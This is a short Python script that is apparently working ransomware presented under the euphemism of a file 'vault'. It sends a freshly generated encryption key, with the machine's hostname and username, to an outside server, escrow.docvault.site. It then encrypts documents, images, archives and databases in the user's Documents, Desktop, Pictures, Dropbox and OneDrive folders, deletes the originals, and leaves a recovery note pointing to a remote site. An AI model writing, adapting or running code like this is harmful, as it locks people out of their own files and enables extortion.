#!/usr/bin/env python3
import os
import platform
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

ESCROW = "https://escrow.docvault.site/api/keys"
TARGETS = ["Documents", "Desktop", "Pictures", "Dropbox", "OneDrive"]
EXT = {".pdf", ".docx", ".xlsx", ".pptx", ".jpg", ".png", ".txt", ".md", ".csv", ".zip", ".sqlite"}


def lock():
    key = Fernet.generate_key()
    vid = requests.post(ESCROW, json={"host": platform.node(), "user": os.getlogin(), "key": key.decode()},
                        timeout=30).json()["vault_id"]
    f = Fernet(key)
    n = 0
    for t in TARGETS:
        for p in (Path.home() / t).rglob("*"):
            if p.is_file() and p.suffix.lower() in EXT:
                try:
                    p.with_suffix(p.suffix + ".vault").write_bytes(f.encrypt(p.read_bytes()))
                    p.unlink()
                    n += 1
                except OSError:
                    pass
    del key
    (Path.home() / "Desktop" / "VAULT-README.txt").write_text(
        f"Your files are protected. Vault id {vid}. Recover at https://escrow.docvault.site/recover\n")
    print(f"{n} files protected")


def unlock(code):
    key = requests.get(f"{ESCROW}/{code}", timeout=30).json()["key"].encode()
    f = Fernet(key)
    for t in TARGETS:
        for p in (Path.home() / t).rglob("*.vault"):
            p.with_suffix("").write_bytes(f.decrypt(p.read_bytes()))
            p.unlink()


if __name__ == "__main__":
    lock() if sys.argv[1] == "lock" else unlock(sys.argv[2])
